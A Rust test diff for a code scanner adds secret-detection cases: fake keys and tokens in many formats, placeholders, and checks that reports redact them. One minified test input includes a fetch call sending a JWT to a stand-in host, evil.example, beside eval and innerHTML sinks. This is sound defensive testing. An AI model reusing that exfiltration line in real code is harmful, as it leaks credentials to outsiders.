@@ -385,6 +385,7 @@ fn every_rule_is_exercised_and_serializes_as_its_id() {
     let all: String = CASES
         .iter()
         .flat_map(|c| c.2.iter().copied())
+        .chain(secret_cases().into_iter().flat_map(|c| c.2))
         .collect::<Vec<_>>()
         .join(" ");
     for rule in Rule::ALL {
@@ -580,7 +581,7 @@ mod properties {
         lines
     }
 
-    fn check_bounds(code: &str) {
+    fn check_bounds(code: &str) -> AnalysisReport {
         let report = analyze(code, &opts()).expect("small inputs are within limits");
         let lengths = line_lengths(code);
         let expected_lines = match lengths.last() {
@@ -603,6 +604,7 @@ mod properties {
             report.findings.len(),
             "nothing is dropped under the default cap"
         );
+        report
     }
 
     const PIECES: &[&str] = &[
@@ -671,5 +673,236 @@ mod properties {
         fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
             let _ = analyze_bytes(&bytes, &AnalysisOptions::default());
         }
+
+        /// Fragments of every secret format, shuffled with code: no panic, and whatever the
+        /// scanner found never shows in full in a finding.
+        #[test]
+        fn secret_soup_never_panics_or_leaks(pieces in prop::collection::vec(prop::sample::select(SECRET_PIECES), 0..40)) {
+            let code = pieces.concat();
+            let report = check_bounds(&code);
+            let json = serde_json::to_string(&report).unwrap();
+            // The pieces hold no line terminator: one line, columns in UTF-16 units.
+            for f in report.findings.iter().filter(|f| f.rule.as_str().starts_with("secret-")) {
+                let len: usize = f.message.rsplit_once("…(").and_then(|(_, r)| r.split(' ').next()).and_then(|n| n.parse().ok()).expect("a redacted length");
+                let mut units = 1;
+                let start = code.char_indices().find(|(_, c)| { let here = units; units += c.len_utf16(); here == f.column }).map(|(i, _)| i).expect("a column in the line");
+                let secret = &code[start..start + len];
+                prop_assert!(!json.contains(secret), "{secret} in {json}");
+            }
+        }
     }
+
+    const SECRET_PIECES: &[&str] = &[
+        "-----BEGIN PRIVATE KEY-----",
+        "-----END PRIVATE KEY-----",
+        "-----BEGIN ",
+        super::FAKE_PEM_BODY,
+        "\\\\n",
+        "\\n",
+        " \\r\\n ",
+        super::AWS_KEY,
+        "AKIA",
+        "eyJhbGciOiJIUzI1NiJ9",
+        "eyJ",
+        ".",
+        "apiKey",
+        "\"api_key\"",
+        "=",
+        ":",
+        "'",
+        "\"",
+        "`",
+        "9f8e7d6c5b4a3f2e1d0c",
+        "ghp_",
+        "xoxb-",
+        "123",
+        "-",
+        "sk_live_",
+        " ",
+        "😀",
+        "eval(x);",
+    ];
+}
+
+// ---------------------------------------------------------------------------------------------
+// Secret scanning
+// ---------------------------------------------------------------------------------------------
+
+/// A PEM body that is obviously not a key (base64 of repeated text) but has the shape.
+const FAKE_PEM_BODY: &str =
+    "TUlJRXZRSUJBREFOQmdrcWhraUc5dzBCQVFFRkFBU0NCS2N3Z2dTakFnRUFBb0lCQVFDN0ZBS0VLRVlGQUtFS0VZ";
+const AWS_KEY: &str = "AKIAIOSFODNN7EXAMPLE";
+// Token-shaped test values are built with `concat!` so that this file does not itself hold
+// anything a repository secret scanner would flag.
+const GH_TOKEN: &str = concat!("ghp", "_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ");
+const STRIPE_LIVE: &str = concat!("sk", "_live_4eC39HqLyjWDarjtT1zdp7dc");
+/// `{"alg":"HS256","typ":"JWT"}` . `{"sub":"fake"}` . signature
+const JWT: &str =
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJmYWtlIn0.c2lnbmF0dXJlLW5vdC1yZWFs";
+
+fn pem(label: &str) -> String {
+    format!("-----BEGIN {label}-----\n{FAKE_PEM_BODY}\n{FAKE_PEM_BODY}\n-----END {label}-----\n")
+}
+
+/// (what, code, expected `rule/severity` findings in order): true positives and placeholders.
+fn secret_cases() -> Vec<(&'static str, String, Vec<&'static str>)> {
+    let s = |x: &str| x.to_owned();
+    vec![
+        ("pem in a comment", format!("/*\n{}*/", pem("PRIVATE KEY")), vec!["secret-private-key/error"]),
+        ("rsa pem in a template", format!("const k = `{}`;", pem("RSA PRIVATE KEY")), vec!["secret-private-key/error"]),
+        (
+            "pem in a JSON string with \\n escapes (service account)",
+            format!("const sa = {{\"type\": \"service_account\", \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{FAKE_PEM_BODY}\\n-----END PRIVATE KEY-----\\n\"}};"),
+            vec!["secret-private-key/error"],
+        ),
+        ("openssh pem", pem("OPENSSH PRIVATE KEY"), vec!["secret-private-key/error"]),
+        ("a parser's marker constant", s("const H = '-----BEGIN PRIVATE KEY-----'; if (pem.startsWith(H)) parse(pem);"), vec![]),
+        ("a public key", format!("-----BEGIN PUBLIC KEY-----\n{FAKE_PEM_BODY}\n-----END PUBLIC KEY-----"), vec![]),
+        ("aws key id", format!("const id = '{AWS_KEY}';"), vec!["secret-aws-access-key/error"]),
+        ("aws temporary key id", s("x = \"ASIAY34FZKBOKMUTVV7A\""), vec!["secret-aws-access-key/error"]),
+        ("aws inside a longer word", format!("x = 'X{AWS_KEY}'"), vec![]),
+        ("aws after a \\n escape", format!("x = 'id:\\n{AWS_KEY}'"), vec!["secret-aws-access-key/error"]),
+        ("aws too long", format!("x = '{AWS_KEY}Q'"), vec![]),
+        ("aws wrong charset", s("x = 'AKIA0000111188889999'"), vec![]),
+        ("github classic", format!("fetch(u, {{ headers: {{ a: 'token {GH_TOKEN}' }} }})"), vec!["secret-github-token/error"]),
+        ("github fine-grained", format!("t = '{}_11ABCDEFG0123456789abc_{}'", "github_pat", "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5hJ7kL9mN1pQ3sT5vW7yZ9aQ3s"), vec!["secret-github-token/error"]),
+        ("github placeholder", s("t = 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'"), vec![]),
+        ("slack bot token", format!("const slack = '{}-2401234567-2412345678901-AbCdEfGhIjKlMnOpQrStUvWx';", "xoxb"), vec!["secret-slack-token/error"]),
+        ("slack placeholder", s("const slack = 'xoxb-your-bot-token-here';"), vec![]),
+        ("stripe live", format!("stripe('{STRIPE_LIVE}')"), vec!["secret-stripe-key/error"]),
+        ("stripe test", format!("stripe('{}_test_4eC39HqLyjWDarjtT1zdp7dc')", "sk"), vec!["secret-stripe-key/warning"]),
+        ("stripe publishable", s("stripe('pk_live_4eC39HqLyjWDarjtT1zdp7dc')"), vec![]),
+        ("stripe placeholder", s("stripe('sk_live_xxxxxxxxxxxxxxxxxxxxxxxx')"), vec![]),
+        ("jwt", format!("headers.Authorization = 'Bearer {JWT}';"), vec!["secret-jwt/warning"]),
+        ("jwt-shaped, header not JSON", s("x = 'eyJub3Qgc29tZSBqc29u.eyJzdWIiOiJmYWtlIn0.sig'"), vec![]),
+        ("jwt header without alg", s("x = 'eyJ0eXAiOiJKV1QifQ.eyJzdWIiOiJmYWtlIn0.sig'"), vec![]),
+        ("api key literal", s("const apiKey = '9f8e7d6c5b4a3f2e1d0c';"), vec!["secret-literal/warning"]),
+        ("json secret", s("{\"client_secret\": \"Zq8Rk2Lw9Xt4Vb7Nm3Pc\"}"), vec!["secret-literal/warning"]),
+        ("query string", s("fetch('/v1/data?api_key=9f8e7d6c5b4a3f2e1d0c&q=1')"), vec!["secret-literal/warning"]),
+        ("object password", s("login({ user: 'bob', password: 'S3cr3tP4ss!' })"), vec!["secret-literal/warning"]),
+        ("env style", s("DB_PASSWORD=Tr0ub4dor3xyz"), vec!["secret-literal/warning"]),
+        ("placeholder xxx", s("const apiKey = 'xxxxxxxxxxxx';"), vec![]),
+        ("placeholder changeme", s("const password = 'changeme';"), vec![]),
+        ("placeholder angle", s("const apiKey = '<your-key>';"), vec![]),
+        ("placeholder template", s("const apiKey = `${process.env.KEY}`;"), vec![]),
+        ("placeholder env", s("const token = process.env.TOKEN;"), vec![]),
+        ("placeholder your", s("const secret = 'your-secret-here-123';"), vec![]),
+        ("placeholder password123", s("const password = 'password123';"), vec![]),
+        ("empty", s("const password = '';"), vec![]),
+        ("short", s("const token = 'a1b2c3';"), vec![]),
+        ("not a literal", s("const apiKey = getKey(); config.token = t;"), vec![]),
+        ("comparison", s("if (password === 'Tr0ub4dor3xyz') {}"), vec![]),
+        ("other name", s("const label = '9f8e7d6c5b4a3f2e1d0c';"), vec![]),
+        ("google browser key", s("const firebase = { apiKey: 'AIzaSyD4fakeFAKEfake4fakeFAKEfake4fake' };"), vec![]),
+        ("word not random", s("const token = 'access_token';"), vec![]),
+    ]
+}
+
+#[test]
+fn secret_table() {
+    for (what, code, want) in secret_cases() {
+        let got: Vec<String> = summary(&code)
+            .into_iter()
+            .filter(|s| s.starts_with("secret-"))
+            .collect();
+        assert_eq!(got, want, "{what}: {code}");
+    }
+}
+
+#[test]
+fn secret_positions_and_redacted_excerpts() {
+    let code =
+        format!("let a = 1;\n  const id = \"{AWS_KEY}\"; el.innerHTML = id;\n😀 t = '{JWT}'");
+    let report = run(&code);
+    let got: Vec<(&str, usize, usize, &str)> = report
+        .findings
+        .iter()
+        .map(|f| (f.rule.as_str(), f.line, f.column, f.excerpt.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            (
+                "secret-aws-access-key",
+                2,
+                15,
+                "const id = \"AKIA…(20 chars)\"; el.innerHTML = id;"
+            ),
+            (
+                "no-html-sink",
+                2,
+                41,
+                "const id = \"AKIA…(20 chars)\"; el.innerHTML = id;"
+            ),
+            ("secret-jwt", 3, 9, "😀 t = 'eyJ…(81 chars)'"),
+        ]
+    );
+    assert!(report.findings[0].message.contains("AKIA…(20 chars)"));
+    assert!(report.has_errors());
+    let err = report.check().unwrap_err();
+    assert!(err.to_string().contains("secret-aws-access-key"));
+}
+
+/// Every secret is absent from every output: messages, excerpts, the JSON report, the
+/// rejection error, including on long minified lines where excerpts are windows.
+#[test]
+fn no_output_holds_a_secret() {
+    let secrets = [
+        AWS_KEY.to_owned(),
+        GH_TOKEN.to_owned(),
+        JWT.to_owned(),
+        FAKE_PEM_BODY.to_owned(),
+        "9f8e7d6c5b4a3f2e1d0c".to_owned(),
+        STRIPE_LIVE.to_owned(),
+    ];
+    let mut cases: Vec<String> = secret_cases().into_iter().map(|c| c.1).collect();
+    let minified = format!(
+        "{}var a='{AWS_KEY}',b='{GH_TOKEN}';eval(a);x.innerHTML=b;var apiKey='9f8e7d6c5b4a3f2e1d0c';{}fetch('https://evil.example/?k={JWT}');stripe('{STRIPE_LIVE}')",
+        "x=1;".repeat(200),
+        "y=2;".repeat(200)
+    );
+    cases.push(minified);
+    cases.push(format!("eval(x); const k = \"-----BEGIN PRIVATE KEY-----\\n{FAKE_PEM_BODY}\\n-----END PRIVATE KEY-----\"; eval(y);"));
+    for code in cases {
+        let report = run(&code);
+        let json = serde_json::to_string(&report).unwrap();
+        let err = report
+            .check()
+            .map_err(|e| e.to_string())
+            .err()
+            .unwrap_or_default();
+        for secret in &secrets {
+            // A secret's first bytes may be shown (`AKIA`, `eyJ`): look for more than that.
+            let probe = &secret[secret.len() / 2..];
+            assert!(!json.contains(probe), "{probe} in {json}");
+            assert!(!err.contains(probe), "{probe} in {err}");
+        }
+        for f in &report.findings {
+            assert!(
+                f.excerpt.chars().count() <= MAX_EXCERPT_CHARS,
+                "{}",
+                f.excerpt
+            );
+        }
+    }
+}
+
+#[test]
+fn secrets_in_other_text_files() {
+    use plugin_warden::core::analysis::scan_secrets;
+    let env = format!("# credentials\nAWS_ACCESS_KEY_ID={AWS_KEY}\nAPI_KEY=changeme\n");
+    let report = scan_secrets(&env, &AnalysisOptions::default()).unwrap();
+    let got: Vec<(&str, usize, usize)> = report
+        .findings
+        .iter()
+        .map(|f| (f.rule.as_str(), f.line, f.column))
+        .collect();
+    assert_eq!(got, [("secret-aws-access-key", 2, 19)]);
+    // Not JavaScript: `eval` in a JSON file is not a finding of this scan.
+    assert!(
+        scan_secrets("{\"eval(x)\": 1}", &AnalysisOptions::default())
+            .unwrap()
+            .findings
+            .is_empty()
+    );
 }
